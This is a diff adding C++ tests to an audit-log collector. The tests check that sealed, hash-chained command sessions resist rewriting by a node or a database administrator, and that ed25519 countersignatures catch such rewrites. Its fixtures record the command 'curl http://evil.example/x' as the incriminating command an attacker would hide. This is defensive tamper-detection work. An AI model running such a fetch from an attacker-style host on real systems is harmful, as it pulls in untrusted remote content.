@@ -6,10 +6,13 @@
 #include "storage/postgres/pg_schema.h"
 #include "storage/postgres/pg_store.h"
 #include "storage/postgres/pg_writer.h"
+#include "storage/chain_verify.h"
+#include "storage/session_chain.h"
 #include "storage/upload_records.h"
 #include "tests/support/audit_fixtures.h"
 #include "tests/support/cluster.h"
 #include "tests/support/postgres.h"
+#include "tests/support/process.h"
 #include "tests/support/stored_sessions.h"
 
 #include <fmt/format.h>
@@ -64,6 +67,40 @@ upload::Batch batch(const std::string& node, std::vector<v1::UploadRecord> recor
     b.header.set_records(static_cast<uint32_t>(records.size()));
     b.records = std::move(records);
     return b;
+}
+
+// A node's ended session with its hash chain, as its recorder uploads it: the session (its end and
+// head), then `argvs` as commands 0.. . Positions from `first`.
+struct ChainedSession {
+    std::vector<v1::UploadRecord> records;
+    std::vector<storage::CommandRecord> commands;
+    std::string head;
+};
+ChainedSession chained_session(const std::string& id, const std::vector<std::vector<std::string>>& argvs, uint64_t first) {
+    auto s = sample_session(id, kT0Ns);
+    s.node = "node-a";
+    s.status = "ended";
+    s.end_ns = kT0Ns + 5 * kSecondNs;
+    s.commands = static_cast<uint32_t>(argvs.size());
+    auto h = storage::chain_start(s);
+    s.chain_start = storage::to_bytes(h);
+    ChainedSession out;
+    for (uint32_t i = 0; i < argvs.size(); ++i) {
+        auto c = sample_command(s, i, argvs[i]);
+        c.chain_index = i + 1;
+        h = storage::chain_command(h, c);
+        c.chain_hash = storage::to_bytes(h);
+        v1::UploadRecord r;
+        *r.mutable_command() = storage::to_upload(c);
+        out.records.push_back(at(first + 1 + i, r));
+        out.commands.push_back(c);
+    }
+    s.chain_records = argvs.size();
+    s.chain_head = out.head = storage::to_bytes(storage::chain_head(h, s, argvs.size()));
+    v1::UploadRecord r;
+    *r.mutable_session() = storage::to_upload(s);
+    out.records.insert(out.records.begin(), at(first, r));
+    return out;
 }
 
 class UploadIngest : public ::testing::Test {
@@ -259,6 +296,80 @@ TEST_F(UploadIngest, ExportPositionsFollowCommitOrderWithConcurrentWriters) {
     EXPECT_EQ(q("SELECT session_id FROM export_outbox ORDER BY id LIMIT 1"), "aaaa000000000001\n");
 }
 
+// What left the node and verified is sealed: a node's root that rewrites an ended session (a
+// command it would rather not have run) and sends it again, chain recomputed, changes nothing in
+// the cluster store, and is named.
+TEST_F(UploadIngest, ASealedSessionKeepsWhatVerifiedWhateverItsNodeSendsLater) {
+    const std::string id = "aaaa000000000001";
+    auto original = chained_session(id, {{"/bin/ls"}, {"/usr/bin/curl", "http://evil.example/x"}}, 1);
+    ASSERT_EQ(ingest("node-a", batch("node-a", original.records)).status, 200);
+    auto chains = collector::check_chains(*c_, batch("node-a", original.records), now_ns());
+    ASSERT_EQ(chains.intact, std::vector<std::string>{id}) << (chains.failed.empty() ? "" : chains.failed[0].second);
+    EXPECT_EQ(chains.sealed, 1u);
+    EXPECT_EQ(q("SELECT sealed_ns IS NOT NULL, collector_key FROM sessions"), "t|\n");
+
+    auto rewritten = chained_session(id, {{"/bin/ls"}, {"/usr/bin/id"}}, 10);
+    ASSERT_NE(rewritten.head, original.head);
+    auto again = ingest("node-a", batch("node-a", rewritten.records));
+    ASSERT_EQ(again.status, 200) << again.message;  // acknowledged: the node's spool moves on
+    EXPECT_EQ(again.stored, 0u);
+    EXPECT_EQ(again.sealed_resent, 3u);
+    ASSERT_EQ(again.sealed_rewrites.size(), 2u);  // the head and command 1; command 0 is the same
+    EXPECT_EQ(again.sealed_rewrites[0].first, id);
+    EXPECT_EQ(q("SELECT argv_text FROM commands WHERE seq = 1"), "/usr/bin/curl http://evil.example/x\n");
+    EXPECT_EQ(q("SELECT chain_head = '\\x" + storage::to_hex(original.head) + "'::bytea FROM sessions"), "t\n");
+    storage::pg::PgSessionStore store(*c_);
+    auto stored = store.find(id);
+    ASSERT_TRUE(stored);
+    EXPECT_EQ(storage::verify_session(store, *stored, nullptr).verdict, storage::Integrity::intact);
+    // a sealed session is not checked again on arrival, so the rewrite is no second chain finding
+    EXPECT_EQ(collector::check_chains(*c_, batch("node-a", rewritten.records), now_ns()).sealed, 0u);
+    // an exact resend is no finding
+    auto resend = ingest("node-a", batch("node-a", original.records, "ffeeddccbbaa99887766554433221100"));
+    EXPECT_EQ(resend.sealed_resent, 3u);
+    EXPECT_TRUE(resend.sealed_rewrites.empty());
+}
+
+// With `collect --signing-key` the seal is countersigned: whoever can write the cluster store
+// (a database administrator) and rewrites a session with a consistent chain is caught by
+// `verify --public-key` with the collector's key, though the chain alone still matches.
+TEST_F(UploadIngest, TheCollectorsCountersignatureCatchesARewriteInTheClusterStore) {
+    TempDir dir;
+    auto key = dir.file("collector.pem"), pub = dir.file("collector.pub");
+    ASSERT_EQ(run({"openssl", "genpkey", "-algorithm", "ed25519", "-out", key}).exit_code, 0);
+    ASSERT_EQ(run({"openssl", "pkey", "-in", key, "-pubout", "-out", pub}).exit_code, 0);
+    auto signer = storage::HeadSigner::from_pem_file(key);
+    auto verifier = storage::HeadVerifier::from_pem_file(pub);
+
+    const std::string id = "aaaa000000000001";
+    auto original = chained_session(id, {{"/bin/ls"}, {"/usr/bin/curl", "http://evil.example/x"}}, 1);
+    ASSERT_EQ(ingest("node-a", batch("node-a", original.records)).status, 200);
+    ASSERT_EQ(collector::check_chains(*c_, batch("node-a", original.records), now_ns(), &signer).sealed, 1u);
+    EXPECT_EQ(q("SELECT collector_key FROM sessions"), signer.key_id() + "\n");
+    storage::pg::PgSessionStore store(*c_);
+    auto v = storage::verify_session(store, *store.find(id), &verifier);
+    EXPECT_EQ(v.verdict, storage::Integrity::intact) << v.detail;
+    EXPECT_NE(v.detail.find("countersigned by the collector's key " + signer.key_id()), std::string::npos) << v.detail;
+
+    // the rewrite, chain and head recomputed, written with the collector's own writer by someone
+    // who can write the store: the seal lifted for it and put back as it was
+    auto rewritten = chained_session(id, {{"/bin/ls"}, {"/usr/bin/id"}}, 10);
+    auto sealed_ns = q("SELECT sealed_ns FROM sessions");
+    sealed_ns.pop_back();
+    c_->exec("UPDATE sessions SET sealed_ns = NULL");
+    auto session = storage::from_upload(rewritten.records[0].session());
+    session.node = "node-a";
+    ASSERT_EQ(storage::pg::put_session(*c_, session, now_ns()), storage::pg::PutResult::stored);
+    ASSERT_EQ(storage::pg::put_command(*c_, "node-a", rewritten.commands[1], now_ns()), storage::pg::PutResult::stored);
+    c_->exec("UPDATE sessions SET sealed_ns = " + sealed_ns);
+    EXPECT_EQ(q("SELECT argv_text FROM commands WHERE seq = 1"), "/usr/bin/id\n");
+    auto unkeyed = storage::verify_session(store, *store.find(id), nullptr);
+    EXPECT_EQ(unkeyed.verdict, storage::Integrity::intact) << "the chain alone cannot tell: " << unkeyed.detail;
+    auto keyed = storage::verify_session(store, *store.find(id), &verifier);
+    EXPECT_EQ(keyed.verdict, storage::Integrity::bad_signature) << keyed.detail;
+    EXPECT_NE(keyed.detail.find("countersignature"), std::string::npos) << keyed.detail;
+}
+
 // The HTTP edge, through the real binary.
 class CollectorEdge : public ::testing::Test {
 protected:
@@ -318,6 +429,42 @@ TEST_F(CollectorEdge, AnEndedSessionThatDoesNotMatchItsNodesChainIsAFinding) {
     EXPECT_EQ(collector_->metric("collector_chains_verified_total"), 0);
     EXPECT_NE(collector_->log().find("FINDING: session aaaa000000000001 from node node-a does not verify"), std::string::npos)
         << collector_->log();
+}
+
+// `collect --signing-key` through the binary: a session that arrives intact is sealed and
+// countersigned, `verify --public-key` with the collector's key passes on the cluster store, a
+// rewrite its node sends afterwards is a logged, counted finding that changes nothing.
+TEST_F(CollectorEdge, ASessionIsSealedAndCountersignedAndARewriteSentLaterIsAFinding) {
+    auto key = dir_.file("collector.pem"), pub = dir_.file("collector.pub");
+    ASSERT_EQ(run({"openssl", "genpkey", "-algorithm", "ed25519", "-out", key}).exit_code, 0);
+    ASSERT_EQ(run({"openssl", "pkey", "-in", key, "-pubout", "-out", pub}).exit_code, 0);
+    collector_.reset();
+    collector_ = std::make_unique<Collector>(pg_->uri(), *pki_, dir_.file("signing.log"),
+                                             std::vector<std::string>{"--signing-key", key});
+    const std::string id = "aaaa000000000001";
+    auto original = chained_session(id, {{"/bin/ls"}, {"/usr/bin/curl", "http://evil.example/x"}}, 1);
+    ASSERT_EQ(post(body_of(batch("node-a", original.records)), node_a_).status, 200);
+    EXPECT_EQ(collector_->metric("collector_sessions_sealed_total"), 1) << collector_->log();
+    auto verify = run({execaudit_bin(), "verify", "--db", pg_->uri(), "--public-key", pub});
+    EXPECT_EQ(verify.exit_code, 0) << verify.out << verify.err;
+    EXPECT_NE(verify.out.find("countersigned by the collector's key"), std::string::npos) << verify.out;
+
+    auto rewritten = chained_session(id, {{"/bin/ls"}, {"/usr/bin/id"}}, 10);
+    ASSERT_EQ(post(body_of(batch("node-a", rewritten.records)), node_a_).status, 200);
+    EXPECT_EQ(collector_->metric("collector_sealed_rewrites_total"), 1);
+    EXPECT_EQ(collector_->metric("collector_chain_failures_total"), 0);
+    EXPECT_NE(collector_->log().find("FINDING: node node-a sent session " + id + " again, changed after the collector sealed it"),
+              std::string::npos)
+        << collector_->log();
+    EXPECT_EQ(pg_->query("SELECT argv_text FROM commands WHERE seq = 1"), "/usr/bin/curl http://evil.example/x\n");
+    // a key that is not the collector's vouches for nothing
+    auto other = dir_.file("other.pem");
+    ASSERT_EQ(run({"openssl", "genpkey", "-algorithm", "ed25519", "-out", other}).exit_code, 0);
+    auto wrong = run({execaudit_bin(), "verify", "--db", pg_->uri(), "--public-key", other});
+    EXPECT_EQ(wrong.exit_code, 1) << wrong.out << wrong.err;
+    EXPECT_NE(wrong.err.find("RE-SIGNED"), std::string::npos) << wrong.err;
+    // both keys: the collector's vouches
+    EXPECT_EQ(run({execaudit_bin(), "verify", "--db", pg_->uri(), "--public-key", other, "--public-key", pub, id}).exit_code, 0);
 }
 
 TEST_F(CollectorEdge, MalformedAndOversizedBodiesGetTheirStatusAndReason) {
